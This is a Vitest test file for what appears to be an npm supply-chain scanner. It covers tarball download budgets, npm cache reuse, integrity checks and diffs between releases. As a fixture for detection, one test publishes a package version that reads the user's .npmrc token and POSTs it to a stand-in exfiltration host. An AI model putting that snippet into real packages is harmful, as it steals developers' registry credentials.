import { randomBytes } from 'node:crypto';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { publish } from 'libnpmpublish';
import { create } from 'tar';
import { describe, expect, inject, it } from 'vitest';
import { DEFAULT_LIMITS } from '../../src/fetch/limits.js';
import {
  cachedTarballSize,
  type DownloadRoom,
  downloadTarball,
  downloadWithin,
} from '../../src/fetch/tarball.js';
import type { PackageNode } from '../../src/model.js';
import type { NpmOptions } from '../../src/npm-config.js';
import { PackumentStore } from '../../src/registry/packument.js';
import type { Report } from '../../src/report/build.js';
import { startFaultProxy } from '../hostile/fault-proxy.js';
import { isolatedHome, runCli } from './cli.js';

const registry = inject('registryUrl');
const NAME = 'postmark-mcp-bcc-backdoor';
const TARBALL = /\/-\/.*\.tgz$/;

/** A room that refuses everything past `allow` bytes. */
const roomFor = (allow: number): DownloadRoom & { taken: number } => ({
  taken: 0,
  restart() {
    this.taken = 0;
  },
  take(bytes: number) {
    if (this.taken + bytes > allow) return false;
    this.taken += bytes;
    return true;
  },
});

async function nodeOf(npmOptions: NpmOptions, version: string, name = NAME): Promise<PackageNode> {
  const outcome = await new PackumentStore(npmOptions).get(name);
  const release = outcome.ok ? outcome.index.releases.get(version) : undefined;
  if (!release?.integrity || !release.tarball) throw new Error('fixture not published');
  return {
    name,
    version,
    integrity: release.integrity,
    resolved: release.tarball,
    paths: [[NAME]],
    pathsTruncated: false,
    optional: false,
  };
}

describe('downloads that are refused room in memory', () => {
  it('are still read whole and verified, then read again from npm’s cache, not the registry', async () => {
    const proxy = await startFaultProxy(registry, []);
    try {
      const npmOptions: NpmOptions = { registry: proxy.url, cache: join(isolatedHome().cache, '_cacache') };
      const node = await nodeOf(npmOptions, '1.0.16');
      const refused = await downloadWithin(node, npmOptions, DEFAULT_LIMITS, roomFor(0));
      expect(refused).toEqual({ ok: true, tarball: undefined, size: expect.any(Number) });
      const again = await downloadTarball(node, npmOptions, DEFAULT_LIMITS);
      expect(again.ok && again.tarball.byteLength).toBe(
        !refused.ok || !('size' in refused) ? -1 : refused.size,
      );
      expect(proxy.seen.filter((path) => TARBALL.test(path))).toHaveLength(1);
      // With room, the bytes are kept.
      const kept = await downloadWithin(node, npmOptions, DEFAULT_LIMITS, roomFor(Number.MAX_SAFE_INTEGER));
      expect(kept.ok && kept.tarball?.equals(again.ok ? again.tarball : Buffer.alloc(0))).toBe(true);
    } finally {
      await proxy.stop();
    }
  });

  it('fail their integrity check whether kept or not, and a tarball over the limit is refused as it arrives', async () => {
    const npmOptions: NpmOptions = { registry, cache: join(isolatedHome().cache, '_cacache') };
    const node = await nodeOf(npmOptions, '1.0.16');
    const other = await nodeOf(npmOptions, '1.0.15');
    const lying = { ...node, integrity: other.integrity };
    for (const room of [roomFor(0), roomFor(Number.MAX_SAFE_INTEGER)]) {
      const outcome = await downloadWithin(lying, npmOptions, DEFAULT_LIMITS, room);
      expect(outcome).toMatchObject({ ok: false, code: 'EINTEGRITY' });
    }
    const small = await downloadWithin(
      node,
      npmOptions,
      { ...DEFAULT_LIMITS, maxTarballBytes: 100 },
      roomFor(0),
    );
    expect(small).toMatchObject({ ok: false, code: 'ETOOBIG' });
  });

  it('in a scan, a previous release that cannot be read again costs the version diff, not the package’s analysis', async () => {
    // Every package is refused room (a 1 KB budget) and read again when its analysis starts; with npm's
    // prefer-online that second read goes to the registry, which by then no longer serves the previous release.
    const proxy = await startFaultProxy(registry, [
      { path: /\/-\/postmark-mcp-bcc-backdoor-1\.0\.15\.tgz$/, skip: 1, status: 404 },
    ]);
    try {
      const result = await runCli(
        ['scan', `${NAME}@1.0.16`, '--registry', proxy.url, '--format', 'json', '--no-cache'],
        {
          home: isolatedHome(),
          env: { OCELLUS_IN_FLIGHT_MB: '0.001', npm_config_prefer_online: 'true', OCELLUS_WORKERS: '0' },
        },
      );
      const report = JSON.parse(result.stdout) as Report;
      const postmark = report.packages.find((pkg) => pkg.name === NAME);
      // The 1.0.16 code was analysed: its backdoor is reported, and the missing diff is said, not hidden.
      expect(postmark?.findings.some((finding) => finding.severity === 'critical')).toBe(true);
      const mark = report.summary.incomplete.find((entry) => entry.name === NAME);
      expect(mark?.reason).toMatch(/previous release 1\.0\.15/);
      expect(result.code).toBe(1);
      expect(proxy.seen.filter((path) => path.endsWith('-1.0.15.tgz'))).toHaveLength(2);
    } finally {
      await proxy.stop();
    }
  });

  it('a cold scan asks for each registry document once: downloading a tarball does not ask for it again', async () => {
    const proxy = await startFaultProxy(registry, []);
    try {
      const result = await runCli(
        ['scan', `${NAME}@1.0.16`, '--registry', proxy.url, '--format', 'json', '--no-cache'],
        { home: isolatedHome() },
      );
      expect(result.code).toBe(1);
      const documents = proxy.seen.filter((path) => !TARBALL.test(path));
      expect(documents.sort()).toEqual([...new Set(documents)].sort());
      expect(documents).toContain(`/${NAME}`);
      // Both releases' tarballs were downloaded (the version diff).
      expect(proxy.seen.filter((path) => TARBALL.test(path) && path.includes(NAME))).toHaveLength(2);
    } finally {
      await proxy.stop();
    }
  });

  it('a package npm’s cache holds, too big for the room left, is read from there at its turn: diff, bytes verified', async () => {
    // Two releases of a package with an incompressible megabyte and a half in it, the second adding a token
    // theft. npm's cache holds both after a first scan; with a budget of half a megabyte the package never fits.
    const name = 'held-big-payload';
    const dir = mkdtempSync(join(tmpdir(), 'ocellus-held-'));
    const payload = randomBytes(1536 * 1024);
    const tarballs = new Map<string, Buffer>();
    for (const [version, code] of [
      ['1.0.0', "module.exports = () => 'ready';"],
      [
        '1.0.1',
        `const fs = require('fs'), os = require('os'), path = require('path');
         const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
         fetch('https://collect.example-exfil.invalid/t', { method: 'POST', body: token });`,
      ],
    ] as const) {
      const root = join(dir, version);
      mkdirSync(join(root, 'package'), { recursive: true });
      const manifest = { name, version, main: 'index.js' };
      writeFileSync(join(root, 'package', 'package.json'), JSON.stringify(manifest));
      writeFileSync(join(root, 'package', 'index.js'), code);
      writeFileSync(join(root, 'package', 'data.bin'), payload);
      await create({ gzip: true, cwd: root, file: join(root, 'out.tgz') }, ['package']);
      const tarball = readFileSync(join(root, 'out.tgz'));
      tarballs.set(version, tarball);
      await publish(manifest, tarball, { registry, defaultTag: 'latest' });
    }
    const home = isolatedHome();
    const npmOptions: NpmOptions = { registry, cache: join(home.cache, '_cacache') };
    // A worker thread, for the tarballs npm's cache hands over whole to be moved there rather than copied.
    const scan = (url: string, workers = '0') =>
      runCli(['scan', `${name}@1.0.1`, '--registry', url, '--format', 'json', '--no-cache'], {
        home,
        env: { OCELLUS_IN_FLIGHT_MB: '0.5', OCELLUS_WORKERS: workers },
      }).then((result) => ({ ...result, report: JSON.parse(result.stdout) as Report }));
    const judged = (report: Report) => {
      const pkg = report.packages.find((entry) => entry.name === name);
      return {
        incomplete: report.summary.incomplete.filter((entry) => entry.name === name),
        // The theft is reported as new in 1.0.1: the previous release was read and compared.
        newTheft: pkg?.findings.some(
          (finding) =>
            finding.severity === 'critical' &&
            /New in 1\.0\.1: .*1\.0\.0 did not have this/.test(finding.message),
        ),
      };
    };

    const first = await scan(registry);
    expect(judged(first.report)).toEqual({ incomplete: [], newTheft: true });
    const node = await nodeOf(npmOptions, '1.0.1', name);
    expect(await cachedTarballSize(node, npmOptions)).toBe(tarballs.get('1.0.1')?.byteLength);
    // Nothing held, or nothing an integrity can name: no size, and the package is downloaded as any other.
    const elsewhere = { ...npmOptions, cache: join(isolatedHome().cache, '_cacache') };
    expect(await cachedTarballSize(node, elsewhere)).toBeUndefined();
    expect(await cachedTarballSize({ ...node, integrity: 'x' }, npmOptions)).toBeUndefined();

    const proxy = await startFaultProxy(registry, []);
    try {
      const again = await scan(proxy.url, '1');
      expect(judged(again.report)).toEqual({ incomplete: [], newTheft: true });
      expect(again.report.packages).toEqual(first.report.packages);
      expect(again.code).toBe(first.code);
      // Both releases came from npm's cache.
      expect(proxy.seen.filter((path) => TARBALL.test(path))).toEqual([]);

      // The cache's size only decides when to read: its bytes are still verified. Damaged in place, the cached
      // 1.0.1 is not analysed; pacote fetches the registry's bytes instead.
      const damaged = cachedContent(home.cache, tarballs.get('1.0.1') ?? Buffer.alloc(0));
      writeFileSync(damaged, randomBytes(statSync(damaged).size));
      const afterDamage = await scan(proxy.url);
      expect(judged(afterDamage.report)).toEqual({ incomplete: [], newTheft: true });
      expect(proxy.seen.filter((path) => path.endsWith(`${name}-1.0.1.tgz`))).toHaveLength(1);
    } finally {
      await proxy.stop();
    }
  });
});

/** The file of npm's cache holding these bytes (found by its content: the layout is cacache's own). */
function cachedContent(npmCache: string, bytes: Buffer): string {
  const walk = (folder: string): string | undefined => {
    for (const entry of readdirSync(folder, { withFileTypes: true })) {
      const path = join(folder, entry.name);
      const found = entry.isDirectory()
        ? walk(path)
        : statSync(path).size === bytes.byteLength && readFileSync(path).equals(bytes)
          ? path
          : undefined;
      if (found) return found;
    }
    return undefined;
  };
  const found = walk(join(npmCache, '_cacache', 'content-v2'));
  if (!found) throw new Error('the tarball is not in npm’s cache');
  return found;
}
